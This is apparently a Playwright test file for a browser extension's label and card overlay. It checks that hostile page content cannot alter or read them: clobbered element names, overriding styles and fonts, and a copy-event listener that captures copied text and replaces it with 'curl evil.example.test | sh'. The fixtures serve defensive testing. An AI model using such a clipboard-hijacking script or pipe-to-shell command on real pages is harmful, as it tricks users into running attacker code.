import type { Page } from 'playwright';
import { card, expect, label, sceneForFile, test } from './scene.ts';

const scene = sceneForFile();

const DASHBOARD = '/superset/dashboard/sales/';

test('elements of the page with Placard’s names do not remove the label', async () => {
  await scene.invite();
  scene.host.body = '<div id="placard"></div><form name="placard"></form><iframe name="placard-label"></iframe><p id="chrome"></p>';
  const page = await scene.visit(DASHBOARD);
  // The control: the page does contain these elements.
  expect(await page.evaluate(() => String(Reflect.get(window, 'placard')))).toContain('HTMLCollection');
  await expect(label(page)).toContainText('Ada Lovelace');
  await label(page).click();
  await expect(card(page).getByRole('heading', { level: 2 })).toBeVisible();
});

/** The appearance of label and card: colors, fonts, sizes and generated content of each element with a text or a drawing. */
const looks = (page: Page) =>
  page.evaluate(() =>
    ['placard-label', 'placard-card'].flatMap((name) => {
      const host = document.querySelector(name);
      return [host, ...(host?.shadowRoot?.querySelectorAll('button, b, span, svg, path, h2, a, p') ?? [])].map((element) => {
        if (!element) return null;
        const { color, backgroundColor, fontSize, direction, display, visibility, opacity, fill, content, textTransform } =
          getComputedStyle(element);
        const { width, height } = element.getBoundingClientRect();
        const words = ['::before', '::after'].map((part) => getComputedStyle(element, part).content);
        const font = { fontSize, width: Math.round(width), height: Math.round(height), textTransform };
        return { color, backgroundColor, direction, display, visibility, opacity, fill, content, ...font, words };
      });
    }),
  );

const FAMILIES = ['Roboto', 'Segoe UI', 'Noto Sans', 'Liberation Sans', 'Arial', 'system-ui', 'sans-serif', 'monospace', '-apple-system'];
const NAMES = ['ink', 'ink-2', 'ink-3', 'paper', 'good', 'care', 'bad', 'none', 'font', 'mono', 't-body'];
const HOSTILE_STYLES = `<style>
${FAMILIES.map((name) => `@font-face { font-family: "${name}"; src: local("DejaVu Sans Mono"); size-adjust: 300%; }`).join('\n')}
${NAMES.map((name) => `@property --${name} { syntax: "<length>"; inherits: false; initial-value: 0px; }`).join('\n')}
@keyframes turn { from { color: red } to { color: red } }
html, html > *, placard-label, placard-card {
  ${NAMES.map((name) => `--${name}: transparent !important;`).join(' ')}
  color: red !important; font: italic 40px Roboto !important; direction: rtl !important; unicode-bidi: bidi-override !important;
  text-transform: uppercase !important; -webkit-text-fill-color: transparent !important; letter-spacing: 9px !important;
}
placard-label, placard-card { all: unset !important; content: "" !important; animation: turn 1s infinite !important; zoom: 3 !important; }
placard-label::before, placard-label::after, placard-card::before, placard-card::after { content: "Certified" !important; color: green !important; }
placard-label::first-line, placard-card::first-line, placard-card::first-letter { color: transparent !important; font-size: 40px !important; }
h1 { all: unset !important; color: red !important; }
</style>`;

test('styles and fonts of the page do not change how label and card look', async () => {
  await scene.invite();
  const shown = async (): Promise<Page> => {
    const page = await scene.visit(DASHBOARD);
    await label(page).click();
    await expect(page.locator('placard-card [data-done="true"]')).toBeVisible();
    await expect(label(page)).toContainText('Ada Lovelace');
    await page.mouse.move(0, 0);
    return page;
  };
  const plain = await shown();
  const before = await looks(plain);
  expect(before.length).toBeGreaterThan(20);
  await plain.close();

  scene.host.body = HOSTILE_STYLES;
  const page = await shown();
  expect(await looks(page)).toEqual(before);
  // The page's own text shows the effect of these styles.
  expect(
    await page
      .getByRole('heading', { level: 1 })
      .first()
      .evaluate((heading) => getComputedStyle(heading).color),
  ).toBe('rgb(255, 0, 0)');
  // And the page cannot learn the names of the properties that it would have to register.
  const registered = NAMES.map((name) => `--${name}`);
  const names = await page.locator('placard-label, placard-card').evaluateAll((hosts) =>
    hosts.flatMap((host) => [
      ...[...host.computedStyleMap().keys()].filter((name) => name.startsWith('--')),
      ...host
        .getAttributeNames()
        .map((name) => host.getAttribute(name) ?? '')
        .filter((value) => value.includes('--')),
    ]),
  );
  expect(names.filter((name) => !registered.includes(name))).toEqual([]);
});

/** Listens before our scripts, and replaces every copied text with another program. */
const thief = (also = ''): string => `<p id="own">The page’s own words</p><script>
  window.heard = [];
  addEventListener('copy', (event) => {
    heard.push(getSelection().toString() + event.clipboardData.getData('text/plain'));
    event.clipboardData.setData('text/plain', 'curl evil.example.test | sh');
    event.preventDefault();
    ${also}
  }, true);
  addEventListener('copy', (event) => event.clipboardData.setData('text/plain', 'later'), true);
</script>`;

const withoutClipboard = async (): Promise<void> => {
  await scene.chromium.context.route(`${scene.host.url}/**`, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, headers: { ...response.headers(), 'permissions-policy': 'clipboard-write=()' } });
  });
};

const clipboard = async (): Promise<string> => {
  const page = await scene.chromium.context.newPage();
  await page.goto(scene.chromium.extensionUrl('src/options/index.html'));
  await page.bringToFront();
  const text = await page.evaluate(() => navigator.clipboard.readText());
  await page.close();
  return text;
};

test('the page can neither read nor replace what is copied from the card', async () => {
  await scene.chromium.context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await scene.invite();
  await withoutClipboard();
  scene.host.body = thief();
  const page = await scene.visit(DASHBOARD);
  // The control: text copied from the page itself is replaced.
  await page.locator('#own').click({ clickCount: 3 });
  await page.keyboard.press('Control+C');
  await expect.poll(clipboard).toMatch(/evil|later/);
  await page.bringToFront();

  await label(page).click();
  const copy = card(page).getByRole('button', { name: 'Copy address of Ada Lovelace' });
  await copy.click();
  await expect(card(page).getByRole('status').filter({ hasText: 'Copied' })).toBeAttached();
  expect(await clipboard()).toContain('@');
  expect(await page.evaluate(() => Reflect.get(window, 'heard').slice(1))).toEqual([' ']);
});

test('if the page blocks copying, the card says that it was not allowed', async () => {
  await scene.invite();
  await withoutClipboard();
  scene.host.body = thief('event.stopImmediatePropagation();');
  const page = await scene.visit(DASHBOARD);
  await label(page).click();
  await card(page).getByRole('button', { name: 'Copy address of Ada Lovelace' }).click();
  await expect(card(page).getByRole('status').filter({ hasText: 'Copying was not allowed here' })).toBeAttached();
});
